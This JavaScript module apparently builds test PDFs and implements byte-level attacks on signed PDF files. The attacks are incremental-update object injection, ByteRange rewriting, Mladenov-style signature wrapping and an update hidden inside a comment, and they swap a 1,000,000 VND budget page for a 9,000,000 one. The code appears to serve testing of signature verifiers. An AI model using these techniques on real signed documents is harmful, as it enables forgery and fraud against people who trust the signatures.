// What attackers do to a signed file, on the level of bytes.

/** A page of text, with an overlay (object 6) that lies unused until somebody shows it. */
export function basePdf() {
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    pageText('Approved budget: 1,000,000 VND'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    pageText('Approved budget: 9,000,000 VND'),
  ];
  let pdf = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets = bodies.map((body, index) => {
    const offset = Buffer.byteLength(pdf, 'latin1');
    pdf += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const xref = Buffer.byteLength(pdf, 'latin1');
  pdf += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map(row).join('')}`;
  pdf += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R /ID [<00112233445566778899AABBCCDDEEFF> `;
  pdf += `<00112233445566778899AABBCCDDEEFF>] >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

function pageText(line) {
  const content = `BT /F1 14 Tf 72 720 Td (${line}) Tj ET`;
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

const row = (offset) => `${String(offset).padStart(10, '0')} 00000 n \n`;
const lastMatch = (pdf, pattern) => [...pdf.toString('latin1').matchAll(pattern)].at(-1)?.[1];

/** Objects by number in a new increment; without `xref` nothing announces them. */
export function increment(pdf, objects, { xref = true } = {}) {
  const size = lastMatch(pdf, /\/Size (\d+)/g);
  const rootReference = lastMatch(pdf, /\/Root (\d+ \d+ R)/g);
  const previous = lastMatch(pdf, /startxref\s+(\d+)/g);
  const numbers = Object.keys(objects).map(Number);
  let text = '';
  const entries = numbers.map((number) => {
    const offset = pdf.length + text.length;
    text += `${number} 0 obj\n${objects[number]}\nendobj\n`;
    return `${number} 1\n${row(offset)}`;
  });
  if (xref) {
    const at = pdf.length + text.length;
    const newSize = Math.max(Number(size), ...numbers.map((number) => number + 1));
    text += `xref\n0 1\n0000000000 65535 f \n${entries.join('')}trailer\n<< /Size ${newSize} /Root ${rootReference} `;
    text += `/Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`;
  }
  return Buffer.concat([pdf, Buffer.from(text, 'latin1')]);
}

/** The last definition of an object, without `n 0 obj` and `endobj`. */
export function bodyOf(pdf, number) {
  const body = lastMatch(pdf, new RegExp(`(?:^|\\n)${number} 0 obj\\s([\\s\\S]*?)\\sendobj`, 'g'));
  if (body === undefined) throw new Error(`object ${number} is not in the file`);
  return body;
}

/** Replaces text by text of the same length. */
export function overwrite(pdf, find, replacement) {
  const at = pdf.lastIndexOf(find, undefined, 'latin1');
  if (at < 0 || find.length !== replacement.length) throw new Error(`cannot overwrite ${find}`);
  const changed = Buffer.from(pdf);
  changed.write(replacement, at, 'latin1');
  return changed;
}

/** The last /ByteRange as it stands, and its numbers. */
export function byteRangeOf(pdf) {
  const text = lastMatch(pdf, /(\/ByteRange\s*\[[^\]]*\])/g);
  return { text, numbers: text.match(/\d+/g).map(Number) };
}

/** The last /ByteRange with other numbers, padded to its length. */
export function withByteRange(pdf, numbers) {
  const { text } = byteRangeOf(pdf);
  const changed = `/ByteRange [${numbers.join(' ')}`;
  return overwrite(pdf, text, `${changed.padEnd(text.length - 1)}]`);
}

/**
 * Signature wrapping (Mladenov et al., 2018): the signed tail moves to the end of the file, the room between holds a second
 * /ByteRange that points there, and where the signed cross-reference table was, one that shows another page.
 */
export function wrap(pdf) {
  const [, gapStart, gapEnd, length] = byteRangeOf(pdf).numbers;
  const xrefAt = Number(lastMatch(pdf, /startxref\s+(\d+)/g));
  const hex = pdf.toString('latin1', gapStart + 1, gapEnd - 1).replace(/(00)+$/, '');
  const signedTable = pdf.toString('latin1', xrefAt);
  const evil = `4 0 obj\n${bodyOf(pdf, 6)}\nendobj\n`;
  const tail = signedTable.replace(/^xref\n/, `xref\n4 1\n@@@@@@@@@@ 00000 n \n`).replace(/startxref[\s\S]*$/, '');
  const evilAt = xrefAt + tail.length;
  const table = tail.replace('@@@@@@@@@@', String(evilAt).padStart(10, '0'));
  const tailAt = evilAt + evil.length;
  const second = ` /ByteRange [0 ${gapStart} ${tailAt} ${length}] `;
  const gap = `<${hex}>${second}`.padEnd(gapEnd - gapStart);
  return Buffer.concat([
    pdf.subarray(0, gapStart),
    Buffer.from(gap, 'latin1'),
    pdf.subarray(gapEnd, xrefAt),
    Buffer.from(table + evil, 'latin1'),
    pdf.subarray(gapEnd),
  ]);
}

/** A whole update in one line of comment, which readers find that look for the last `startxref` from the end. */
export function commentUpdate(pdf, number, body) {
  const size = lastMatch(pdf, /\/Size (\d+)/g);
  const rootReference = lastMatch(pdf, /\/Root (\d+ \d+ R)/g);
  const previous = lastMatch(pdf, /startxref\s+(\d+)/g);
  const object = `${number} 0 obj ${body.replaceAll('\n', ' ')} endobj `;
  const table = pdf.length + 2 + object.length;
  const update =
    `% ${object}xref ${number} 1 ${row(pdf.length + 2).trimEnd()}  trailer << /Size ${size} /Root ${rootReference} ` +
    `/Prev ${previous} >> startxref ${table} %%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(update, 'latin1')]);
}
